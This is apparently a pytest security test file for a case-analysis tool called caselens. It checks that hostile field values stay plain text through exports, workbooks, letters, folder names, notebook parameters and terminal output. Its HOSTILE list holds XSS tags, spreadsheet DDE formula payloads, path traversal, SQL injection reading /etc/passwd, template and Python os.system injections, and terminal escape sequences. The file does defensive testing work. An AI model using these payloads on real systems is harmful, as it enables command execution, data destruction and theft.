"""Fields that carry a script, a formula, a path, SQL, a template or code go through everything and stay what they are: text.

Pages have tests of their own; here: workspace, exports, workbooks, letters, file names, parameters of notebooks, the
terminal, messages.
"""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import openpyxl
import pandas as pd
import pytest
from rich.markup import escape
from tests.cities import FEE, desk_of

from caselens.api import Desk, new_workspace
from caselens.cli import _app
from caselens.core.errors import CaselensError
from caselens.core.masking import masked
from caselens.graph.export import to_gexf, to_graphml, to_neo4j_csv
from caselens.operations.batch import folder_name
from caselens.operations.exports import export, is_formula, text_of
from caselens.operations.ftm import entities_of
from caselens.operations.letter import letter
from caselens.operations.requests import as_table, requests
from caselens.reports.run import run

pytestmark = pytest.mark.long

#: Beside the tests' working folder: whatever makes one of these has been obeyed.
CANARY = "obeyed_by_somebody"
HOSTILE = (
    "<script>document.title='obeyed'</script>",
    "\"><img src=x onerror=alert(1)><a href='javascript:alert(2)'>",
    f"=cmd|'/C touch {CANARY}'!A0",
    '=HYPERLINK("http://example.invalid/"&A1,"open")',
    "@SUM(A1:A9)",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "＝1+1",
    "\t=1+1",
    f"../../../{CANARY}",
    f"'; DROP TABLE payments; COPY (SELECT 1) TO '{CANARY}'; --",
    f"\" UNION SELECT * FROM read_csv('/etc/passwd') --{CANARY}",
    "{{ 7 * 7 }}{% for x in (1,2) %}x{% endfor %}${7*7}{0.__class__}%(x)s%s",
    f'"""\nimport pathlib; pathlib.Path("{CANARY}").touch()\n"""',
    f"'); __import__('os').system('touch {CANARY}') #",
    "\x1b]0;obeyed\x07\x1b[2J",
    "[red]red[/] [link=http://example.invalid]link[/link]",
    "\u202egnp.exe",
    "</textarea>]]><!--",
)


def hostile_city() -> tuple[dict[str, str], Iterator[str]]:
    """The invented city of the fee with a hostile value in every free text and every id of a party, an account, a case."""
    ids = {old: f"{old}{HOSTILE[number % len(HOSTILE)].strip()}" for number, old in enumerate(
        ["O", "K", "X", "U", "S", "M", "H", "aS", "aM", "aK", "aO", "aX", "aH", "p1", "p2", "p3", "p4", "L", "C1"]
    )}  # fmt: skip
    free = {"name", "post", "memo", "title"}
    turn = iter(HOSTILE * 50)
    tables = {}
    for table, text in FEE.items():
        rows = list(csv.DictReader(io.StringIO(text)))
        out = io.StringIO()
        writer = csv.DictWriter(out, list(rows[0]), lineterminator="\n", quoting=csv.QUOTE_ALL)
        writer.writeheader()
        for row in rows:
            writer.writerow(
                {name: next(turn) if name in free else ids.get(value, value) for name, value in row.items()}
            )
        tables[table] = out.getvalue()
    return tables, iter(HOSTILE)


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory) -> Desk:
    desk = desk_of(tmp_path_factory.mktemp("hostile"), hostile_city()[0])
    desk.screen()
    return desk


@pytest.fixture(autouse=True)
def _nobody_obeyed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.chdir(tmp_path)
    yield
    around = [tmp_path, Path(__file__).parent, *tmp_path.parents[:3]]
    assert not [path for folder in around for path in folder.glob(f"*{CANARY}*") if path.is_file()]


def test_every_row_came_in_and_stayed_as_it_was(desk):
    sources = desk.sources()
    assert (sources["rows_in"] == sources["rows_accepted"]).all()
    given = next(iter(csv.DictReader(io.StringIO(hostile_city()[0]["persons"]))))
    persons = desk.table("persons").execute()
    assert given["name"] in set(persons["name"]) and given["person_id"] in set(persons["person_id"])


def test_the_questions_get_the_answers_of_the_harmless_city(desk, tmp_path):
    harmless = desk_of(tmp_path / "harmless", FEE).findings()
    found = desk.findings()
    assert list(found["indicator"]) == list(harmless["indicator"])
    assert list(found["amount"]) == list(harmless["amount"])
    # Names were put into sentences as they are; nothing in them was filled in or computed.
    assert not found["summary_en"].str.contains("49").any()


def tables_of(desk: Desk) -> dict[str, pd.DataFrame]:
    case = desk.case()
    found = {
        "findings": desk.findings(), "assessments": desk.assessments(), "leads": desk.leads(), "sources": desk.sources(),
        "payments": case.payments(), "parties": case.parties, "evidence": case.evidence(), "notes": desk.notes(),
        "requests": as_table(requests(desk.workspace)[0]),
    }  # fmt: skip
    return {name: frame for name, frame in found.items() if len(frame)}


def test_no_cell_of_a_csv_is_a_formula_and_none_is_lost(desk, tmp_path):
    risky = 0
    for name, frame in tables_of(desk).items():
        path = tmp_path / f"{name}.csv"
        guarded = export(frame, path, "csv")
        with open(path, encoding="utf-8-sig", newline="") as file:
            rows = list(csv.reader(file))
        assert len(rows) == len(frame) + 1 and not [cell for row in rows for cell in row if is_formula(cell)], name
        texts = [value for column in frame for value in frame[column] if isinstance(value, str)]
        exact = [
            cell.removeprefix("'") if is_formula(cell.removeprefix("'")) else cell for row in rows[1:] for cell in row
        ]
        # The apostrophe is all that is different.
        assert {text.replace("\r\n", "\n") for text in texts} <= {cell.replace("\r\n", "\n") for cell in exact}
        assert guarded == sum(map(is_formula, texts))
        risky += guarded
    assert risky > 5, "the city held no formula: this test looked at nothing"


@pytest.mark.parametrize(
    ("text", "formula"),
    [("=1", True), ("@x", True), ("+a", True), ("-a", True), ("\t1", True), ("＋a", True), ("-1+1", True), ("=", True),
     ("-1", False), ("+86 138 0013 8000", False), ("-1,234.50", False), ("-", False), ("张三", False), ("", False), ("a=1", False)],
)  # fmt: skip
def test_what_counts_as_a_formula(text, formula):
    assert is_formula(text) is formula


def test_a_heading_is_guarded_too():
    frame = pd.DataFrame({"=cmd|'/C calc'!A0": ["x"], "n": [-1]})
    assert text_of(frame, "csv") == "'=cmd|'/C calc'!A0,n\nx,-1\n"


def test_a_workbook_holds_text_where_text_was_and_no_formula(desk, tmp_path):
    for name, frame in tables_of(desk).items():
        export(frame, tmp_path / f"{name}.xlsx", "xlsx")
        sheet = openpyxl.load_workbook(tmp_path / f"{name}.xlsx")["data"]
        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert sheet.max_row == len(frame) + 1
        assert {cell.data_type for cell in cells} <= {"s", "inlineStr", "n"} and not [c for c in cells if c.hyperlink]
        assert not [cell for cell in cells if isinstance(cell.value, str) and "\x1b" in cell.value]


def test_json_lines_and_graphs_carry_the_names_exactly(desk, tmp_path):
    case = desk.case()
    name = next(iter(csv.DictReader(io.StringIO(hostile_city()[0]["persons"]))))["name"]
    entities = [json.loads(line) for line in entities_of(desk.workspace)]
    assert name in {value for item in entities for value in item["properties"].get("name", ())}
    for write, file in ((to_graphml, "g.graphml"), (to_gexf, "g.gexf")):
        texts = " ".join(ET.parse(write(case.graph, tmp_path / file)).getroot().itertext())
        labels = {value for element in ET.parse(tmp_path / file).iter() for value in element.attrib.values()}
        assert name in texts or name in labels
    to_neo4j_csv(case.graph, tmp_path)
    with open(tmp_path / "nodes.csv", encoding="utf-8", newline="") as nodes:
        assert name in {row["label"] for row in csv.DictReader(nodes)}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))


def test_a_letter_has_no_tag_of_a_stranger(desk):
    tags = _Tags()
    tags.feed(letter(requests(desk.workspace)[0], "zh"))
    names = {tag for tag, _ in tags.seen}
    assert "table" in names and not names & {"script", "img", "a", "textarea", "iframe"}
    assert not [attribute for _, attributes in tags.seen for attribute in attributes if attribute.startswith("on")]


@pytest.mark.parametrize("value", [*HOSTILE, "..", ".", "/", "a/b", "\0", "CON", "x" * 500, ""], ids=ascii)
def test_a_case_id_as_a_folder_stays_inside(value, tmp_path):
    name = folder_name(value)
    assert (tmp_path / name).resolve().parent == tmp_path.resolve() and len(name.encode()) < 255
    (tmp_path / name).mkdir()


def test_two_ids_are_never_one_folder():
    assert len({folder_name(value) for value in HOSTILE}) == len(HOSTILE)


def test_names_of_folders_and_files_are_only_names(tmp_path):
    names = [value.replace("/", "∕").lstrip(".") for value in HOSTILE]  # hidden files are nobody's material
    for number, name in enumerate(names):
        folder = tmp_path / "given" / name
        folder.mkdir(parents=True)
        (folder / "accounts.csv").write_text(f"account_id,bank\nA{number},x\n", encoding="utf-8")
        (folder / f"{name}.csv").write_text("no,table\n1,2\n", encoding="utf-8")
    desk = new_workspace(tmp_path / "W")
    desk.intake(tmp_path / "given")
    assert desk.table("accounts").count().execute() == len(names)
    raw = desk.workspace.folder.raw
    assert all(path.resolve().is_relative_to(raw.resolve()) for path in raw.rglob("*"))
    assert set(desk.table("accounts").execute()["source_file"]) == {f"{name}/accounts.csv" for name in names}


@pytest.mark.parametrize("title", [*HOSTILE, 'a"b\\c\nd\x7f\r\0', "\ud800"], ids=ascii)
def test_a_title_is_a_title(title, tmp_path):
    desk = new_workspace(tmp_path / "W", title)
    assert desk.title == title.encode("utf-8", "backslashreplace").decode()


def test_decisions_about_hostile_rows_for_hostile_reasons(desk):
    store = desk.workspace.store
    before = set(store.statuses())
    for value in HOSTILE:
        store.decide("dismiss", "findings", [value], value, value)
    assert set(store.statuses()) - before == set(HOSTILE)
    assert {item.reason for item in store.decisions("findings")} >= set(HOSTILE)
    with sqlite3.connect(desk.workspace.folder.root / "store.db") as file:
        assert file.execute("SELECT count(*) FROM finding_history").fetchone()[0] > 0


def test_a_parameter_of_a_notebook_is_a_value(tmp_path):
    cells = [
        nbformat.v4.new_code_cell("workspace = ''\ncase_id = ''", metadata={"tags": ["parameters"]}),
        nbformat.v4.new_code_cell(
            "import json\nfrom pathlib import Path\nPath('seen.json').write_text(json.dumps(case_id))"
        ),
    ]
    nbformat.write(nbformat.v4.new_notebook(cells=cells), tmp_path / "small.ipynb")
    value = "\n".join(HOSTILE)
    done = run(tmp_path / "small.ipynb", {"case_id": value}, tmp_path / "out" / "page.html", "zh", cwd=tmp_path)
    assert done.ok, done.reason
    assert json.loads((tmp_path / "seen.json").read_text("utf-8")) == value


def test_a_terminal_shows_control_characters_instead_of_obeying_them(capsys):
    for value in HOSTILE:
        _app.out.print(escape(value))
        _app.err.print(f"[red]refused[/] {escape(value)}")
    said = capsys.readouterr()
    for text in (said.out, said.err):
        assert not set(text) & {"\x1b", "\x07", "\u202e"}
        assert "⟦U+001B⟧" in text and "[red]red[/]" in text


def test_a_password_is_in_no_message(tmp_path, monkeypatch):
    monkeypatch.setenv("CASELENS_STORE_WAIT", "0")
    desk = new_workspace(tmp_path / "W")
    settings = desk.workspace.folder.settings
    settings.write_text(settings.read_text("utf-8") + '\nstore = "postgresql+psycopg://u:geheim77@127.0.0.1:1/x"\n')
    with pytest.raises(Exception) as told:  # noqa: PT011 - whichever it is, its text is looked at
        Desk(type(desk.workspace).open(tmp_path / "W")).workspace.store.decisions()
    assert isinstance(told.value, CaselensError), told.value
    assert "geheim77" not in str(told.value)


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("row 12: persons.id_number = '11010119900307299X'", "row 12: persons.id_number = '•••'"),
        ("账号6222021234567890123的余额", "账号•••的余额"),
        ("6222 0212 3456 7890 123 / 138-0013-8000", "••• / •••"),
        ("postgresql://u:geheim@h:5432/x", "postgresql://u:•••@h:5432/x"),
        ("91330106MA27XW0K5X zhang@example.invalid", "••• •••"),
        ("AGE-SECRET-KEY-1QQQ token=abc&x", "••• token=•••&x"),
        ("1,234,567.89 CNY on 2016-06-01 10:11:12, line 345", "1,234,567.89 CNY on 2016-06-01 10:11:12, line 345"),
    ],
)
def test_logs_lose_numbers_and_secrets_and_keep_the_sentence(text, left):
    assert masked(text) == left


def test_the_log_of_a_failed_run_has_no_number_and_its_traceback(tmp_path):
    cells = [
        nbformat.v4.new_code_cell("case_id = ''", metadata={"tags": ["parameters"]}),
        nbformat.v4.new_code_cell("card = '1101011990' + '0307299X'\nraise ValueError(f'no such card: {card}')"),
    ]
    nbformat.write(nbformat.v4.new_notebook(cells=cells), tmp_path / "small.ipynb")
    done = run(tmp_path / "small.ipynb", {}, tmp_path / "out" / "page.html", "zh")
    logs = [path.read_text("utf-8") for path in (tmp_path / "out").glob(".*log")]
    assert not done.ok and len(logs) == 1
    assert "no such card: •••" in logs[0] and "ValueError" in logs[0] and "11010119900307299X" not in logs[0]
